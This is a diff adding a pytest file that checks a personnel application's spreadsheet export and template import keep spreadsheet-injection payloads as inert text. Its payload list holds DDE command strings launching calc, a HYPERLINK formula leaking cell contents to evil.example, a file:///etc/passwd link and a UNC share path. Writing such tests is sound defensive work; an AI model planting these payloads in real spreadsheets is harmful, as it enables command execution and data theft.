@@ -1,0 +1,177 @@
+"""Texts that a spreadsheet might run: in every column of what is exported and imported they stay the texts they are."""
+
+import csv
+import io
+import shutil
+import subprocess
+import sys
+from datetime import date
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+from pydantic import TypeAdapter, ValidationError
+
+from chalicelib.repos.files import uploaded_workbook, workbook
+from chalicelib.rules.applications import person_import, progress
+from chalicelib.rules.forms import fields
+
+TODAY = date(2026, 11, 21)
+LEADS = ("=", "+", "-", "@", "\t", "\r")
+DANGEROUS = [
+    *(f"{lead}1+1" for lead in LEADS),
+    *(f"{lead}cmd|' /C calc'!A0" for lead in LEADS),
+    '=HYPERLINK("https://evil.example/?q="&A1)',
+    "https://evil.example/?q=1",
+    "mailto:somebody@evil.example",
+    "file:///etc/passwd",
+    "\\\\evil.example\\share",
+    "#N/A",
+    "0123",
+    "1e5",
+    "2026-11-21",
+    "TRUE",
+    "'quoted",
+    '"quoted", twice',
+    "line\nline",
+]
+OFFICE = shutil.which("soffice")
+
+
+def shown(value):
+    """What any reader sees of it: in XML a carriage return is an end of line."""
+    return value.replace("\r", "\n")
+
+
+def cells(content):
+    """Every cell that says something."""
+    (page,) = load_workbook(io.BytesIO(content)).worksheets
+    return [[cell for cell in row if cell.value is not None] for row in page.iter_rows()]
+
+
+@pytest.fixture(scope="module")
+def exported():
+    """A sheet with every dangerous text in every column, its header too."""
+    columns = len(progress.COLUMNS)
+    return workbook.sheet("人员申请进度", ["=A1"] * columns, [[text] * columns for text in DANGEROUS])
+
+
+@pytest.fixture(scope="module")
+def template():
+    return workbook.template("人员", person_import.headers())
+
+
+@pytest.fixture(scope="module")
+def filled(template):
+    """The template with a dangerous text, as text, in every column that takes text."""
+    book = load_workbook(io.BytesIO(template))
+    for row, text in enumerate(DANGEROUS, start=2):
+        for column in range(1, len(person_import.COLUMNS) + 1):
+            cell = book.active.cell(row, column)
+            cell.value = text
+            cell.data_type = "s"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def test_an_exported_sheet_holds_texts_only_and_each_as_it_was(exported):
+    header, *rows = cells(exported)
+    assert [cell.value for cell in header] == ["=A1"] * len(progress.COLUMNS)
+    assert [[cell.value for cell in row] for row in rows] == [
+        [shown(text)] * len(progress.COLUMNS) for text in DANGEROUS
+    ]
+    found = [cell for row in [header, *rows] for cell in row]
+    assert {(cell.data_type, cell.hyperlink) for cell in found} == {("s", None)}
+    sys.stdout.write(f"exported sheet: {len(found)} cells, all strings, 0 formulas, 0 links\n")
+
+
+NAME = TypeAdapter(fields.text(2, 50))
+UNLIKELY = "\x00\x0b\x1f\x7f\x85\xad\u200b\u2028\u202e\ud800\ufdd0\ufeff\ufffd\ufffe\uffff\U0001fffe\U0010ffff"
+TEXTS = st.lists(st.characters(codec=None) | st.sampled_from(UNLIKELY), max_size=60).map("".join)
+
+
+def typed(rows):
+    return [(1, person_import.headers()), *enumerate(rows, start=2)]
+
+
+def is_name(value):
+    try:
+        return NAME.validate_python(value) == value
+    except ValidationError:
+        return False
+
+
+@settings(deadline=None, database=None, derandomize=True, max_examples=200)
+@given(st.lists(TEXTS, min_size=1, max_size=20))
+def test_whatever_a_field_accepts_stands_the_same_in_the_export(texts):
+    names = [each for each in texts if is_name(each)] or ["测试"]
+    page = workbook.sheet("人员申请进度", ["姓名"], [[name] for name in names])
+    assert [cell.value for (cell,) in cells(page)[1:]] == names
+
+
+@settings(deadline=None, database=None, derandomize=True, max_examples=100)
+@given(TEXTS)
+def test_an_export_can_be_read_whatever_is_stored(text):
+    cells(workbook.sheet("人员申请进度", ["姓名"], [[f"测{text}试"]]))
+
+
+@pytest.mark.parametrize("character", "\x00\x1f\ud800\udfff\ufffe\uffff")
+def test_what_a_sheet_cannot_hold_is_left_out_of_it(character):
+    page = workbook.sheet("人员申请进度", ["姓名"], [[f"测{character}试"]])
+    assert [cell.value for (cell,) in cells(page)] == ["姓名", "测试"]
+
+
+def test_the_template_holds_its_headers_as_texts(template):
+    header, *rest = cells(template)
+    assert [(cell.value, cell.data_type) for cell in header] == [(title, "s") for title in person_import.headers()]
+    assert not any(rest)
+
+
+def test_texts_of_a_filled_in_template_are_read_as_they_are(filled):
+    persons, _ = person_import.read(uploaded_workbook.rows(filled), TODAY)
+    texts = ("name", "passport_place", "title", "title_en")
+    read = [[person[name] for name in texts] for person in persons]
+    assert read == [[shown(text).strip()] * len(texts) for text in DANGEROUS]
+    sys.stdout.write(f"filled-in template: {len(read) * len(texts)} texts read as they are\n")
+
+
+def test_a_formula_in_a_filled_in_template_is_nothing(template):
+    book = load_workbook(io.BytesIO(template))
+    for column in range(1, len(person_import.COLUMNS) + 1):
+        book.active.cell(2, column).value = '="测试"&"甲"'
+    buffer = io.BytesIO()
+    book.save(buffer)
+    assert person_import.read(uploaded_workbook.rows(buffer.getvalue()), TODAY) == ([], [])
+
+
+def test_a_return_or_a_tab_is_in_no_name_and_no_title():
+    persons, _ = person_import.read(typed([f"{lead}测试"] * len(person_import.COLUMNS) for lead in ("\t", "\r")), TODAY)
+    assert [person["name"] for person in persons] == ["测试", "测试"]
+    _, errors = person_import.read(typed([f"测{lead}试"] * len(person_import.COLUMNS) for lead in ("\t", "\r")), TODAY)
+    refused = {(each.row, each.error.field) for each in errors if each.error.code == "CONTROL_CHARACTER"}
+    assert refused >= {
+        (row, f"persons.{name}") for row in (2, 3) for name in ("name", "title", "title_en", "passport_place")
+    }
+
+
+@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not installed: openpyxl alone has read the sheets")
+def test_libreoffice_sees_the_same_texts(exported, filled, tmp_path):
+    for name, content in (("exported", exported), ("filled", filled)):
+        (tmp_path / f"{name}.xlsx").write_bytes(content)
+    as_text = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,true,false"
+    command = [
+        *(str(OFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"),
+        *("--convert-to", as_text, "--outdir", str(tmp_path)),
+        *(str(tmp_path / f"{name}.xlsx") for name in ("exported", "filled")),
+    ]
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
+    wide = {"exported": len(progress.COLUMNS), "filled": len(person_import.COLUMNS)}
+    for name, columns in wide.items():
+        text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
+        rows = list(csv.reader(io.StringIO(text, newline="")))[1 : len(DANGEROUS) + 1]
+        assert rows == [[shown(each)] * columns for each in DANGEROUS], name
+        # Texts are written in quotes, numbers, days and results of formulas without.
+        assert text.count('"') >= 2 * columns * (len(DANGEROUS) + 1), name
+    sys.stdout.write(f"LibreOffice: {sum(wide.values()) * len(DANGEROUS)} cells, each the text it was\n")
